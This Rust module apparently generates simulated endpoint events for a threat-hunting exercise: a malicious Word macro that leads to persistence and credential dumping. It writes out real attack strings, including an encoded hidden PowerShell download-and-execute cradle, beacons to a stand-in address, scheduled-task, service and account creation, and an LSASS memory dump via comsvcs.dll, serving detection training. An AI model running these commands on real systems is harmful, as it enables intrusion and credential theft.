//! An intrusion for the nightly hunts: a document on 2 April, and what followed after the restart on 3 April. It is
//! written last, and uses nothing that the published hunts count.

use super::events::tcp;
use super::host101::Boot;
use super::world::{Account, MINUTE, Machine, Millis, ProcessId, SECOND, World, april, program};

/// The address and port that the intruder's programs connect to.
const REMOTE: (&str, u16) = ("203.0.113.99", 4444);

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RUNDLL: &str = "C:\\Windows\\System32\\rundll32.exe";
const DUMP: &str = "C:\\Windows\\Temp\\diag.dmp";

/// Loads the next stage from cdn.example.net.
const ENCODED: &str = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp\
                       AGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALgBlAHgAYQBtAHAA\
                       bABlAC4AbgBlAHQALwBhACcAKQA=";

/// The commands that the first shell runs to explore the machine.
const DISCOVERY: &[(&str, &str)] = &[
    ("C:\\Windows\\System32\\whoami.exe", "whoami  /groups"),
    ("C:\\Windows\\System32\\systeminfo.exe", "systeminfo"),
    ("C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts"),
];

/// The commands that the second shell runs for persistence.
const COMMANDS: &[(&str, &str)] = &[
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks  /create /tn \"RII Updater\" /sc hourly /ru SYSTEM /tr C:\\ProgramData\\sync\\sync.exe",
    ),
    ("C:\\Windows\\System32\\sc.exe", "sc  create riisvc binPath= \"C:\\ProgramData\\sync\\sync.exe -k netsvcs\" start= auto"),
    ("C:\\Windows\\System32\\net.exe", "net  user helpdesk Spring2021! /add"),
];

/// Writes both days of the intrusion.
pub(super) fn write(world: &mut World, boots: &[Boot; 3]) {
    first_day(world, &boots[0], april(2, 11, 41, 0));
    second_day(world, &boots[1], april(3, 15, 10, 0));
}

/// A document starts PowerShell, which connects to the intruder, explores the machine, and registers itself to start at logon.
fn first_day(world: &mut World, boot: &Boot, begin: Millis) {
    let word = program(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\mkeller\\Downloads\\invoice-0402.docm\"",
        Account::Person,
    );
    let word = world.spawn(boot.shell, word, begin);
    let shell = world.spawn(word, program(POWERSHELL, ENCODED, Account::Person), begin + 9 * SECOND);
    for call in 0..6 {
        call_home(world, shell, begin + (1 + call * 5) * MINUTE);
    }
    let prompt = world.spawn(shell, program(CMD, "cmd.exe /c start.cmd", Account::Person), begin + 3 * MINUTE);
    run_all(world, prompt, DISCOVERY, begin + 3 * MINUTE + 20 * SECOND);
    world.registry(
        shell,
        begin + 6 * MINUTE,
        "HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
        Some("rundll32.exe C:\\Users\\mkeller\\AppData\\Roaming\\sync.dll,Start"),
    );
    for (id, minutes) in [(prompt, 8), (shell, 40), (word, 55)] {
        world.exit(id, begin + minutes * MINUTE);
    }
}

/// The program registered for logon starts. It makes a task, a service and an account, and dumps the memory of LSASS.
fn second_day(world: &mut World, boot: &Boot, begin: Millis) {
    let stage = "rundll32.exe C:\\Users\\mkeller\\AppData\\Roaming\\sync.dll,Start";
    let stage = world.spawn(boot.shell, program(RUNDLL, stage, Account::Person), begin);
    for call in 0..4 {
        call_home(world, stage, begin + (1 + call * 20) * MINUTE);
    }
    let prompt = world.spawn(stage, program(CMD, "cmd.exe", Account::Person), begin + 12 * MINUTE);
    run_all(world, prompt, COMMANDS, begin + 12 * MINUTE + 30 * SECOND);
    let cache = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\RII Updater\\Index";
    world.registry(boot.scheduler(), begin + 12 * MINUTE + 31 * SECOND, cache, Some("3"));
    let service = "HKLM\\System\\CurrentControlSet\\Services\\riisvc\\ImagePath";
    world.registry(boot.services, begin + 12 * MINUTE + 51 * SECOND, service, Some("C:\\ProgramData\\sync\\sync.exe -k netsvcs"));

    let lsass = program("C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", Account::System);
    let lsass = world.running(Machine::Host101, lsass, None, boot.from - 8 * SECOND);
    let command = format!("rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 668 {DUMP} full");
    let dumper = world.spawn(prompt, program(RUNDLL, &command, Account::Person), begin + 31 * MINUTE);
    world.access(dumper, begin + 31 * MINUTE + 400, lsass, "0x1fffff");
    world.create_file(dumper, begin + 31 * MINUTE + 450, DUMP);
    for (id, minutes) in [(dumper, 32), (prompt, 33), (stage, 90)] {
        world.exit(id, begin + minutes * MINUTE);
    }
}

fn call_home(world: &mut World, id: ProcessId, time: Millis) {
    let port = world.port();
    world.connect(id, time, tcp(REMOTE.0, REMOTE.1, port));
}

/// Runs the commands one after the other, twenty seconds apart.
fn run_all(world: &mut World, parent: ProcessId, commands: &[(&str, &str)], from: Millis) {
    let mut time = from;
    for (image, command) in commands {
        let id = world.spawn(parent, program(image, command, Account::Person), time);
        world.exit(id, time + 2 * SECOND);
        time += 20 * SECOND;
    }
}
